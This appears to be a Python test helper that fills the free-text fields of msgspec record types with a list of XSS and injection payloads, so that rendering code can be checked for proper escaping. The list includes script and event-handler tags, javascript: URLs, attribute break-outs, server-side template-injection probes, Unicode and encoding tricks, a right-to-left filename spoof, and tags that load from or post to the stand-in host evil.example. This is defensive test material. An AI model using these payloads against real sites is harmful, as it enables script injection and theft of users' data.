"""Hostile words, and records that carry them in every text that somebody else can set.

Each vector tries to leave the place it is shown in: as an element, an attribute, a link, a style, a
template or a line of text. What gets out carries the attribute `xss`, or sets `window.owned`.
"""

import re
import types
import typing
import zlib
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from enum import Enum
from typing import Annotated, Any, Final, TypeVar

import msgspec

VECTORS: Final = (
    "<script xss>owned=1</script>",
    "<img xss src=x onerror=owned=1>",
    "<svg xss onload=owned=1>",
    "<svg xss><script>owned=1</script></svg>",
    "<svg xss><animate onbegin=owned=1 attributeName=x dur=1s>",
    "<math xss><mtext><table><mglyph><style><img src=x onerror=owned=1>",
    "<iframe xss srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<object xss data=//evil.example></object>",
    "<embed xss src=//evil.example>",
    "<link xss rel=stylesheet href=//evil.example/x.css>",
    "<base xss href=//evil.example/>",
    "<meta xss http-equiv=refresh content='0;url=//evil.example'>",
    "<form xss action=//evil.example><button>ok</button></form>",
    "<details xss open ontoggle=owned=1>",
    "<a xss href=javascript:owned=1>x</a>",
    "<style xss>*{background:url(//evil.example)}</style>",
    '" xss autofocus onfocus=owned=1 x="',
    "' xss autofocus onfocus=owned=1 x='",
    " xss onmouseover=owned=1 ",
    "` xss onfocus=owned=1 `",
    '"><script xss>owned=1</script>',
    "'><img xss src=x onerror=owned=1>",
    "</title><script xss>owned=1</script>",
    "</textarea><script xss>owned=1</script>",
    "</script><script xss>owned=1</script>",
    "</style></svg><img xss src=x onerror=owned=1>",
    "--><img xss src=x onerror=owned=1><!--",
    "]]><img xss src=x onerror=owned=1>",
    "</option></select><img xss src=x onerror=owned=1>",
    "javascript:owned=1//",
    "java\tscript:owned=1//",
    "data:text/html,<script xss>owned=1</script>",
    "//evil.example/x",
    "{{1337*1337}}{% raw %}${1337*1337}<%= 1337*1337 %>#{1337*1337}",
    "{{cycler.__init__.__globals__}}",
    ";background:url(//evil.example/css);expression(owned=1)",
    "&lt;script xss&gt;owned=1&lt;/script&gt;&#60;img xss&#62;",
    "%3Cscript xss%3Eowned=1%3C/script%3E",
    "\\u003cscript xss\\u003e\\x3cscript xss\\x3e",
    "\uff1cscript xss\uff1eowned=1\uff1c/script\uff1e",
    "<\u017fcript xss>owned=1</\u017fcript>",
    "\u2028\u2029<img xss src=x onerror=owned=1>",
    "\u202eetadpu ytiruces\u2066 gnp.exe",
    "\ufeff\u200b<img\u00a0xss\u000csrc=x onerror=owned=1>",
)  # fmt: skip
# What evaluating a template would have made of the vector above.
EVALUATED: Final = str(1337 * 1337)
# Characters that turn the direction of what follows them round (UAX 9).
TURNS: Final = re.compile("[\u202a-\u202e\u2066-\u2069]")
# The worst ids that the API takes, and what they are in plain words.
_IDS: Final = ("javascript:owned", "--onload", "data:text.html", "loud")
_PLAIN_IDS: Final = ("bakery-17", "daily-news", "shop.example", "loud")
_PLAIN: Final = (
    "Offers of the week", "Spring catalogue", "bakery.example", "our shop's customers", "garden tools",
    "550 5.1.1 no such user here", "They signed up at the fair", "monthly", "web form",
)  # fmt: skip
_spoken: Final[list[str]] = []
_USUAL: Final = 600
T = TypeVar("T", bound=msgspec.Struct)
# Every kind of record that was made with hostile words in this process.
MADE: Final[set[type]] = set()


class NotFilled(TypeError):
    """A field can carry somebody else's words, and nobody says which."""


def words(name: str, most: int = _USUAL) -> str:
    """Return as many vectors as `most` characters hold; which one comes first depends on the name."""
    first = zlib.crc32(name.encode()) % len(VECTORS)
    if _spoken:
        return _PLAIN[first % len(_PLAIN)][:most]
    return "".join((*VECTORS[first:], *VECTORS[:first]))[:most]


@contextmanager
def plainly() -> Iterator[None]:
    """Fill with plain words meanwhile: for pictures that people look at."""
    _spoken.append("plain")
    yield
    _spoken.pop()


def ids() -> tuple[str, ...]:
    """Return the ids of the accounts that are filled in."""
    return _PLAIN_IDS if _spoken else _IDS


def bundles(most: int) -> list[str]:
    """Return texts of up to `most` characters that together hold every vector whole."""
    found = [""]
    for vector in VECTORS:
        if len(found[-1]) + len(vector) > most:
            found.append("")
        found[-1] += vector
    return found


def hostile(kind: type[T], /, **given: Any) -> T:
    """Return a record whose free texts carry the vectors, all but those that are given.

    Raises `NotFilled` for a field that can hold text somewhere inside, until it is given.
    """
    MADE.add(kind)
    hints = typing.get_type_hints(kind, include_extras=True)
    for field in msgspec.structs.fields(kind):
        if field.name in given:
            continue
        value = _value(hints[field.name], f"{kind.__name__}.{field.name}")
        if value is not None:
            given[field.name] = value
        elif field.required:
            raise NotFilled(f"say what {kind.__name__}.{field.name} is")
    return kind(**given)


def holds_text(kind: type[msgspec.Struct]) -> bool:
    """Return whether a record has texts of its own, beside those of the records in it."""
    hints = typing.get_type_hints(kind, include_extras=True)
    return any(carries_text(hint, within=False) for hint in hints.values())


def carries_text(kind: Any, within: bool = True) -> bool:
    """Return whether a value of a type can hold a text that is neither an id nor of a closed set.

    `within`: the texts of records in it count, too.
    """
    if typing.get_origin(kind) is Annotated:
        metas = [m for m in kind.__metadata__ if isinstance(m, msgspec.Meta)]
        return not any(m.pattern for m in metas) and carries_text(typing.get_args(kind)[0], within)
    if isinstance(kind, type) and issubclass(kind, msgspec.Struct):
        hints = typing.get_type_hints(kind, include_extras=True)
        return within and any(carries_text(hint) for hint in hints.values())
    if kind is Any or kind is str:
        return True
    if isinstance(kind, type) and issubclass(kind, Enum):
        return False
    return any(carries_text(part, within) for part in typing.get_args(kind))


def _value(hint: Any, name: str) -> Any:
    """Return hostile words for a field of text; None where it can hold none."""
    if not carries_text(hint):
        return None
    plain, most = _plain(hint)
    if plain is str:
        return words(name, most)
    if isinstance(plain, type) and issubclass(plain, msgspec.Struct):
        return hostile(plain)
    origin, parts = typing.get_origin(plain), typing.get_args(plain)
    if origin is tuple and parts[0] is str:
        return (words(name),)
    if origin in (dict, Mapping) and parts[0] is str and parts[1] in (str, int, float):
        return {words(name): words(f"{name}=") if parts[1] is str else 3}
    if origin in (dict, Mapping) and parts[0] is str and carries_text(parts[1]):
        if typing.get_origin(parts[1]) is tuple:
            return {words(name): (words(f"{name}="),)}
        if str in typing.get_args(parts[1]):
            return {words(name): words(f"{name}=")}
    raise NotFilled(f"say what {name} is: it can hold text, as {hint}")


def _plain(hint: Any) -> tuple[Any, int]:
    """Return a type without what may be left out, and the most characters it takes."""
    most = _USUAL
    while True:
        if typing.get_origin(hint) is Annotated:
            lengths = [m.max_length for m in hint.__metadata__ if isinstance(m, msgspec.Meta)]
            most = min([most, *(n for n in lengths if n is not None)])
            hint = typing.get_args(hint)[0]
        elif typing.get_origin(hint) in (types.UnionType, typing.Union):
            some = [part for part in typing.get_args(hint) if part is not type(None)]
            if len(some) != 1:
                return hint, most
            hint = some[0]
        else:
            return hint, most
